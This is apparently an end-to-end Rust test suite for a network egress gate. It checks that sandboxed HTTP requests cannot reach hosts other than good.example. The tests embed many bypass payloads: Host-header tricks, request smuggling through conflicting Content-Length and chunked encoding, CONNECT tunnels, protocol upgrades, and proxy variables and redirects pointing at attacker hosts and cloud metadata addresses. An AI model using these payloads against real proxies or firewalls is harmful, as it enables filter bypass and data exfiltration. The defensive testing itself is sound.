//! Attempts with HTTP in the clear, where every request says for whom it is: what the gate reads
//! and what the web server reads must not differ.

use super::everywhere;
use k8e_e2e::internet::{ATTACKER, CDN, PROXY};
use serde_json::json;

#[test]
fn another_host_on_the_same_address() {
    everywhere("good.example", |inside| {
        let curl = format!("--resolve bad.example:80:{CDN} http://bad.example/k8e-secret");
        assert_eq!(inside.curl(&curl), None);
        assert_eq!(
            inside.curl("-H 'Host: bad.example' http://good.example/k8e-secret"),
            None
        );
        let expected = json!({ "name": "bad.example", "address": CDN.to_string(), "port": 80, "reason": "not_allowed" });
        inside.assert_denied(expected);
    });
}

#[test]
fn an_allowed_host_at_the_attackers_address() {
    everywhere("good.example", |inside| {
        let curl = format!("--resolve good.example:80:{ATTACKER} http://good.example/k8e-secret");
        assert_eq!(inside.curl(&curl), None);
        inside.tries(&format!("reach('{ATTACKER}', 80, get('good.example'))"));
        let expected = json!({ "name": "good.example", "address": ATTACKER.to_string(), "reason": "wrong_address" });
        inside.assert_denied(expected);
    });
}

#[test]
fn a_target_that_is_not_the_host() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "reach('{CDN}', 80, get('good.example', path='http://bad.example/k8e-secret'))\n\
             reach('{CDN}', 80, get('bad.example', path='http://good.example/k8e-secret'))\n\
             reach('{CDN}', 80, get('good.example', path='//bad.example/k8e-secret')[:0] or get('good.example', path='https://bad.example/k8e-secret'))\n\
             reach('{CDN}', 80, get('good.example', path='http://good.example@bad.example/k8e-secret'))"
        ));
    });
}

#[test]
fn several_hosts() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "def both(*lines): return ('GET /k8e-secret HTTP/1.1\\r\\n' + '\\r\\n'.join(lines) + '\\r\\n\\r\\n').encode()\n\
             good, bad = 'Host: good.example', 'Host: bad.example'\n\
             for lines in [(good, bad), (bad, good), (good, 'host: bad.example'), (good, 'Host : bad.example'), (good, ' ' + bad), (good, '\\tx'),\n             \
             ('Host: good.example, bad.example',), ('Host: good.example bad.example',), ('X: y\\n' + bad, good), ('X: y\\r' + bad, good),\n             \
             (good + '\\0.bad.example',), ('Host:', good), ('Host: good.example:80:80',), ('Host:\\r\\n bad.example', good), (good, 'X\\0: y')]:\n    \
             reach('{CDN}', 80, both(*lines), wait=0.7)"
        ));
    });
}

#[test]
fn a_second_request_on_a_kept_connection() {
    everywhere("good.example", |inside| {
        inside.tries(
            "s = socket.create_connection((resolve('good.example')[0], 80), 5); s.settimeout(3)\n\
             s.sendall(get('good.example', '/first')); first = s.recv(65536); tried(first[-200:])\n\
             assert b'good.example' in first\n\
             try:\n    \
             s.sendall(get('bad.example')); second = s.recv(65536)\n    \
             if not refused(second): escaped(second)\n\
             except OSError: pass",
        );
        let requests = inside.internet.log().requests();
        assert_eq!(requests.len(), 1, "{requests:?}");
        inside.assert_denied(json!({ "name": "bad.example", "address": CDN.to_string() }));
    });
}

#[test]
fn a_second_request_behind_the_first() {
    everywhere("good.example", |inside| {
        // In one packet, then cut in the middle of the second.
        inside.python(&format!(
            "both = get('good.example', '/first') + get('bad.example'); cut = both.index(b'k8e')\n\
             for pieces in [both], [both[:cut], both[cut:]]: say('{CDN}', 80, pieces=pieces, wait=2)"
        ));
        assert!(!inside.internet.log().contains(b"bad.example"));
    });
}

#[test]
fn a_request_inside_another() {
    everywhere("good.example", |inside| {
        // Where one body ends is told twice, or badly; a server may believe the other.
        inside.python(&format!(
            "hidden = get('bad.example')\n\
             def post(*lines, body=hidden): return ('POST /outer HTTP/1.1\\r\\nHost: good.example\\r\\n' + ''.join(l + '\\r\\n' for l in lines) + '\\r\\n').encode() + body\n\
             n = len(hidden); chunked = 'Transfer-Encoding: chunked'; end = b'0\\r\\n\\r\\n' + hidden\n\
             for data in [post(f'Content-Length: {{n}}', 'Content-Length: 0'), post('Content-Length: 0', f'Content-Length: {{n}}'),\n             \
             post(f'Content-Length: {{n + 5}}', chunked, body=end), post(chunked, 'Content-Length: 5', body=end),\n             \
             post(f'Content-Length: {{n + 5}}', 'Transfer-Encoding: xchunked', body=end), post(f'Content-Length: {{n + 5}}', 'Transfer-Encoding : chunked', body=end),\n             \
             post(f'Content-Length: {{n + 5}}', 'Transfer-Encoding:\\tchunked', body=end), post(f'Content-Length: {{n + 5}}', 'Transfer-Encoding: identity, chunked', body=end),\n             \
             post(f'Content-Length: {{n + 5}}', 'X: y\\nTransfer-Encoding: chunked', body=end), post(f'Content-Length: +{{n}}'), post(f'Content-Length: 0x{{n:x}}'),\n             \
             post(f'Content-Length: {{n}}, 0'), post(f'Content-Length: -1'), post('Content-Length: 99999999999999999999'), post(body=hidden),\n             \
             post(chunked, body=b'0\\n\\n' + hidden), post(chunked, body=b'-1\\r\\n' + hidden), post(chunked, body=b'fffffffffffffffff\\r\\n' + hidden),\n             \
             post(chunked, body=b'1;x\\ny\\r\\na\\r\\n' + end), post(chunked, chunked, body=end), post(chunked, body=b'0\\r\\nHost: bad.example\\r\\n\\r\\n' + hidden)]:\n    \
             say('{CDN}', 80, data, wait=0.7)"
        ));
        let requests = inside.internet.log().requests();
        let hidden = |request: &k8e_e2e::internet::Request| request.host == "bad.example";
        assert!(!requests.iter().any(hidden), "{requests:#?}");
        // A body may have been sent that has it; that is what bodies are for.
        inside.internet.forget();
    });
}

#[test]
fn a_tunnel_through_an_allowed_server() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for target in 'bad.example:443', 'good.example:443', '{ATTACKER}:80':\n    \
             for host in 'good.example', target:\n        \
             reach('{CDN}', 80, f'CONNECT {{target}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n'.encode())"
        ));
        assert_eq!(
            inside
                .curl("--proxy http://good.example:80 --proxytunnel http://bad.example/k8e-secret"),
            None
        );
        let requests = inside.internet.log().requests();
        assert!(requests.is_empty(), "{requests:?}");
    });
}

#[test]
fn no_host() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for data in [b'GET /k8e-secret HTTP/1.0\\r\\n\\r\\n', b'GET /k8e-secret\\r\\n', b'GET /k8e-secret HTTP/1.1\\r\\n\\r\\n',\n             \
             b'GET http://bad.example/k8e-secret HTTP/1.0\\r\\n\\r\\n', get('', version='1.0'), get('good.example', version='0.9'), get('good.example', version='3.0')]:\n    \
             reach('{CDN}', 80, data, wait=0.7)"
        ));
        inside.assert_denied(json!({ "address": CDN.to_string(), "port": 80 }));
    });
}

#[test]
fn another_version_of_http() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "preface = b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + b'\\0\\0\\0\\4\\0\\0\\0\\0\\0'\n\
             reach('{CDN}', 80, preface + SECRET); reach('{CDN}', 80, b'\\r\\n' + preface)"
        ));
        let curl = "--http2-prior-knowledge http://good.example/k8e-secret";
        assert_eq!(inside.curl(curl), None);
    });
}

#[test]
fn not_http_on_its_port() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for data in [hello('good.example'), hello('bad.example'), SECRET * 3000, b'\\r\\n' * 3000, b'GET ' + b'k8e-secret' * 20000,\n             \
             b'GET / HTTP/1.1\\r\\n' + b'X: k8e-secret\\r\\n' * 20000, b'SSH-2.0-k8e-secret\\r\\n', b'\\5\\1\\0']:\n    \
             reach('{CDN}', 80, data, wait=0.7); reach('{ATTACKER}', 80, data, wait=0.7)"
        ));
        inside.assert_denied(json!({ "address": CDN.to_string(), "port": 80 }));
    });
}

#[test]
fn proxies_from_the_environment() {
    everywhere("good.example", |inside| {
        for proxy in [
            format!("http://{ATTACKER}:{PROXY}"),
            format!("http://198.18.0.1:{PROXY}"),
            "http://198.18.0.1:80".to_owned(),
            format!("socks5h://{ATTACKER}:7777"),
            format!("socks5h://{CDN}:443"),
        ] {
            inside.tries_sh(&format!(
                "echo tried; export http_proxy={proxy} https_proxy={proxy} HTTPS_PROXY={proxy} ALL_PROXY={proxy}\n\
                 for url in http://bad.example https://bad.example http://{ATTACKER} http://good.example; do\n\
                 curl -sfk --max-time 5 $url/k8e-secret && echo ESCAPED $url; done; true"
            ));
        }
    });
}

#[test]
fn where_a_redirect_leads() {
    everywhere("good.example", |inside| {
        for target in [
            "http://bad.example/there".to_owned(),
            "https://attacker.example/there".to_owned(),
            format!("http://{ATTACKER}/there"),
            "http://169.254.169.254/there".to_owned(),
        ] {
            let url = format!("https://good.example/redirect?to={target}");
            assert_eq!(inside.curl(&format!("--location '{url}'")), None);
        }
        let requests = inside.internet.log().requests();
        assert_eq!(requests.len(), 4, "{requests:?}");
    });
}

#[test]
fn a_request_in_a_body_that_waits_for_a_go() {
    everywhere("good.example", |inside| {
        // Refused before the body, whose bytes are no request then; and allowed, where they are a body.
        inside.python(&format!(
            "hidden = get('bad.example')\n\
             def post(host, n, *lines): return (f'POST /outer HTTP/1.1\\r\\nHost: {{host}}\\r\\nContent-Length: {{n}}\\r\\nExpect: 100-continue\\r\\n' + ''.join(l + '\\r\\n' for l in lines) + '\\r\\n').encode()\n\
             n = len(hidden)\n\
             for pieces in [post('bad.example', n), hidden, hidden], [post('bad.example', 0), hidden], [post('good.example', 0), hidden], \\\n                 \
             [post('good.example', n, 'Expect: 200-ok'), hidden + hidden], [post('good.example', n), hidden + hidden], [post('good.example', n)[:-2] + b'\\r\\n' + hidden, hidden]:\n    \
             say('{CDN}', 80, pieces=pieces, wait=0.7)"
        ));
        let requests = inside.internet.log().requests();
        let hidden = |request: &k8e_e2e::internet::Request| request.host == "bad.example";
        assert!(!requests.iter().any(hidden), "{requests:#?}");
        // A body may have been sent that has it; that is what bodies are for.
        inside.internet.forget();
    });
}

#[test]
fn a_switch_to_another_protocol() {
    everywhere("good.example", |inside| {
        // Whoever is believed to have switched is not read any more.
        inside.tries(&format!(
            "key = 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n'\n\
             def ask(head, *lines): return (head + '\\r\\nHost: good.example\\r\\n' + ''.join(l + '\\r\\n' for l in lines) + key + '\\r\\n').encode()\n\
             up = 'Connection: Upgrade'\n\
             for first in [ask('GET /up HTTP/1.1', up, 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'), ask('GET /up HTTP/1.1', up, 'Upgrade: TLS/1.2'),\n             \
             ask('GET /up HTTP/1.1', up, 'Upgrade: websocket, h2c'), ask('GET /up HTTP/1.1', up, 'Upgrade: h2c', 'Upgrade: websocket'),\n             \
             ask('POST /up HTTP/1.1', up, 'Upgrade: websocket', 'Content-Length: 0'), ask('GET /up HTTP/1.0', up, 'Upgrade: websocket'), ask('GET /up HTTP/1.1', 'Upgrade: websocket')]:\n    \
             tried(first[:40])\n    \
             try:\n        \
             with socket.create_connection(('{CDN}', 80), 3) as s:\n            \
             s.settimeout(3); s.sendall(first); answer = s.recv(65536)\n            \
             if b' 101 ' in answer: escaped(first, answer)\n            \
             s.sendall(get('bad.example')); second = s.recv(65536)\n            \
             if not refused(second): escaped(second)\n    \
             except OSError: pass"
        ));
    });
}

#[test]
fn headers_that_connection_names() {
    everywhere("good.example", |inside| {
        // A proxy takes out what `Connection` names: the host or the length, if it believes that.
        inside.python(&format!(
            "hidden = get('bad.example'); n = len(hidden)\n\
             for named in 'Host', 'host, close', 'Content-Length', 'content-length, host', 'Transfer-Encoding', 'Host\\r\\nConnection: Content-Length':\n    \
             say('{CDN}', 80, f'POST /outer HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: {{named}}\\r\\nContent-Length: {{n}}\\r\\n\\r\\n'.encode() + hidden, wait=0.7)\n    \
             say('{CDN}', 80, f'POST /outer HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: {{named}}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{{n:x}}\\r\\n'.encode() + hidden + b'\\r\\n0\\r\\n\\r\\n', wait=0.7)"
        ));
        let requests = inside.internet.log().requests();
        assert!(!requests.is_empty());
        let other = |request: &k8e_e2e::internet::Request| request.host != "good.example";
        assert!(!requests.iter().any(other), "{requests:#?}");
        // A body may have been sent that has it; that is what bodies are for.
        inside.internet.forget();
    });
}

#[test]
fn hosts_spelled_in_other_ways() {
    everywhere("good.example,*.good.example", |inside| {
        inside.tries(&format!(
            "for host in ['good%2eexample', 'bad.example%00.good.example', 'bad.example%2f.good.example', 'good.example:443', 'good.example:8080', 'good.example:', 'good.example:080',\n             \
             'good.example.', 'bad.example\\\\.good.example', 'bad.example?.good.example', 'bad.example/.good.example', 'good.example,bad.example', '[good.example]', 'good..example',\n             \
             '[::ffff:{CDN}]', '0x2d0a0101', 'bad.example;good.example', \"bad.example'.good.example\", 'user:pass@good.example', '*.good.example', '_.good.example:80:80']:\n    \
             reach('{CDN}', 80, get(host), wait=0.6)"
        ));
    });
}
